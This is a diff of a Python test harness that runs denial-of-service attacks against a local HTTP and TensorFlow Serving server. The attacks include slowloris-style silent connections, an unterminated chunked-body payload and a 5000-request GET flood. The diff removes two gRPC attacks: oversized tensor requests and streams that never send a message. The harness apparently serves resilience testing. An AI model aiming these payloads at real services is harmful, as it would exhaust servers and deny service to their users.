@@ -6,7 +6,7 @@ import asyncio
 import socket
 import time
 from collections import Counter
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
 from functools import partial
@@ -18,14 +18,11 @@ CONNECTIONS = 4
 """That attack at a time."""
 SILENT = 600
 """Connections that say nothing; more than a server takes."""
-STREAMS = 256
-"""Calls without a message, of each connection."""
 TRAILER = (
     b"POST /v1/recommend HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"2\r\n{}\r\n0\r\nX: "
 )
 FLOOD = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 5000
-SERVICE = "/tensorflow.serving"
 
 
 def drive_attack(job: dict[str, Any]) -> dict[str, int]:
@@ -88,80 +85,8 @@ def _read_code(found: socket.socket) -> str:
         return "reset"
 
 
-def _call(port: int, stop: float) -> Counter[str]:
-    import grpc
-    import tensorflow as tf
-    from tensorflow_serving.apis.predict_pb2 import PredictRequest
-    from tensorflow_serving.apis.prediction_service_pb2_grpc import PredictionServiceStub
-
-    request = PredictRequest()
-    request.model_spec.name, request.model_spec.signature_name = "ranker", "score_items"
-    for name, value in (("user_id", [1003]), ("gender", ["F"]), ("history", [[101]])):
-        request.inputs[name].CopyFrom(tf.make_tensor_proto(value))
-    request.inputs["items"].CopyFrom(tf.make_tensor_proto([[101]], tf.int64))
-    request.inputs["items"].tensor_shape.dim[1].size = 400_000
-    stub, codes = PredictionServiceStub(grpc.insecure_channel(f"127.0.0.1:{port}")), Counter[str]()
-    while time.perf_counter() < stop:
-        try:
-            stub.Predict(request, timeout=60)
-            codes["OK"] += 1
-        except grpc.RpcError as error:
-            codes[error.code().name] += 1
-    return codes
-
-
-def _begin_streams(port: int, stop: float) -> Counter[str]:
-    """Begins calls that never send their message, and asks by good ones meanwhile."""
-    import grpc
-    from tensorflow_serving.apis.get_model_status_pb2 import GetModelStatusRequest
-
-    own = [("grpc.use_local_subchannel_pool", 1)]
-    good = GetModelStatusRequest()
-    good.model_spec.name = "ranker"
-    message, codes = good.SerializeToString(), Counter[str]()
-
-    async def stay_silent() -> AsyncIterator[bytes]:
-        await asyncio.sleep(3600)
-        yield b""
-
-    async def hold(channel: Any) -> None:
-        while time.perf_counter() < stop:
-            try:
-                await channel.stream_unary(f"{SERVICE}.PredictionService/Predict")(stay_silent())
-            except grpc.aio.AioRpcError as error:
-                codes[error.code().name] += 1
-                await asyncio.sleep(0.1)
-
-    async def run() -> None:
-        channels = [grpc.aio.insecure_channel(f"127.0.0.1:{port}", own) for _ in range(5)]
-        tasks = [asyncio.create_task(hold(one)) for one in channels[1:] for _ in range(STREAMS)]
-        call = channels[0].unary_unary(f"{SERVICE}.ModelService/GetModelStatus")
-        while time.perf_counter() < stop:
-            try:
-                await call(message, timeout=5)
-                codes["good: OK"] += 1
-            except grpc.aio.AioRpcError as error:
-                codes[f"good: {error.code().name}"] += 1
-            await asyncio.sleep(0.02)
-        for task in tasks:
-            task.cancel()
-        await asyncio.gather(*tasks, return_exceptions=True)
-        await asyncio.gather(*(channel.close() for channel in channels))
-
-    asyncio.run(run())
-    return codes
-
-
 ATTACKS: dict[str, Callable[[int, float], Counter[str]]] = {
     "silent": _keep_silent,
     "trailer": partial(_send_without_end, TRAILER, b"y" * 65536),
     "flood": partial(_send_without_end, b"", FLOOD),
-    "broadcast": _call,
-    "streams": _begin_streams,
 }
-
-
-def find_port() -> int:
-    """Returns a port that is free."""
-    with socket.create_server(("127.0.0.1", 0)) as found:
-        return int(found.getsockname()[1])
